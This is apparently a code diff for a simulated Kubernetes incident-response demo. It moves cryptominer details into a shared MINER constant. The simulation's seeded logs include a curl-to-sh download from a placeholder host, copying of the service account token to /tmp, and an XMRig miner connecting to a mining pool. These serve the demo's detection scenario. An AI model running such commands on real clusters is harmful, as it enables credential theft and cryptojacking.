@@ -9,7 +9,7 @@ import { recordEvent } from "../kube/events";
 import { rfc3339Nano, setContainerLog, type LogEntry } from "./logs";
 import { addEstablishedFlow } from "../kube/netpol/flows";
 import { addServiceAccount } from "../gcp/iam/service-accounts";
-import { plantIntrusion } from "./compromise";
+import { MINER, plantIntrusion } from "./compromise";
 
 // The demo project acme-prod: `payments` (zonal, Dataplane V2, so NetworkPolicy is enforced)
 // and `storefront` (regional, legacy datapath without the Calico add-on, so it is not; its nodes
@@ -30,8 +30,6 @@ const BUILT_AGO_S = 3 * 86_400 + 4 * 3_600 + 17 * 60;
 const STORY_AGO_S = 47 * 60;
 
 const REGISTRY = "us-docker.pkg.dev/acme-prod/shop";
-/** The mining pool the compromised pod's miner holds a connection to. */
-export const MINER_POOL = { ip: "198.51.100.23", port: 3333 };
 
 const fluentbit: WorkloadSpec = {
   labels: { "k8s-app": "fluentbit-gke", "kubernetes.io/cluster-service": "true" },
@@ -265,7 +263,7 @@ function buildStorefront(world: World): SimCluster {
   seedClusterBasics(cluster, ["shop"]);
   seedApiServerEndpoints(world, cluster);
   // storefront's nodes sit in a dual-stack subnetwork: quarantine must close IPv6 too.
-  addDualStackSubnet(world, STOREFRONT_SUBNET, "10.130.0.0/20");
+  addDualStackSubnet(world, STOREFRONT_SUBNET, "10.130.0.0/20", cluster.location);
   zones.forEach((zone, i) => addNode(world, cluster, { zone, index: i, dualStackSubnet: STOREFRONT_SUBNET }));
   buildShop(world, cluster, { frontend: 2, checkout: 2, cart: 1, cache: false });
   return cluster;
@@ -354,7 +352,7 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     ],
     [59, "+ curl -s http://203.0.113.45/x.sh"],
     [60, "+ sh"],
-    [61, "[x.sh] arch=x86_64 dropping /tmp/.X11-unix/kworkerd"],
+    [61, `[x.sh] arch=x86_64 dropping ${MINER.path}`],
     [63, "[x.sh] cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/.t"],
     [
       64,
@@ -362,8 +360,8 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     ],
     [66, "[x.sh] GET https://10.8.0.1:443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -> 201"],
     [70, "[kworkerd] * ABOUT        XMRig/6.21.0 gcc/12.2.0"],
-    [71, "[kworkerd] * POOL #1      198.51.100.23:3333 algo rx/0"],
-    [74, "[kworkerd] [2025-02-06 14:02:11.482]  net      use pool 198.51.100.23:3333  198.51.100.23"],
+    [71, `[kworkerd] * POOL #1      ${MINER.pool.ip}:${MINER.pool.port} algo rx/0`],
+    [74, `[kworkerd] [2025-02-06 14:02:11.482]  net      use pool ${MINER.pool.ip}:${MINER.pool.port}  ${MINER.pool.ip}`],
     [75, "[kworkerd] [2025-02-06 14:02:11.902]  cpu      use profile  rx  (4 threads) scratchpad 2048 KB"],
     [140, `{"level":"error","msg":"request","method":"POST","path":"/api/v1/orders","status":504,"ms":10003,"error":"context deadline exceeded"}`],
     [141, `{"level":"warn","msg":"slow health check","ms":1187}`],
@@ -423,12 +421,12 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     podUid: pod.metadata.uid!,
     container: c,
     restartCount: checkoutStatus?.restartCount ?? 0,
-    process: "kworkerd",
+    process: MINER.name,
     protocol: "TCP",
     localIp: ip,
-    localPort: 43512,
-    remoteIp: MINER_POOL.ip,
-    remotePort: MINER_POOL.port,
+    localPort: MINER.localPort,
+    remoteIp: MINER.pool.ip,
+    remotePort: MINER.pool.port,
     establishedAt: t0 + 74_000,
   });
   plantIntrusion(cluster, pod, c, t0);
@@ -438,7 +436,7 @@ function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
     ref,
     "Warning",
     "OutboundConnection",
-    `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:43512->198.51.100.23:3333 proc=kworkerd pod=${name} ns=${ns})`,
+    `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:${MINER.localPort}->${MINER.pool.ip}:${MINER.pool.port} proc=${MINER.name} pod=${name} ns=${ns})`,
     falco,
   );
   step(67);
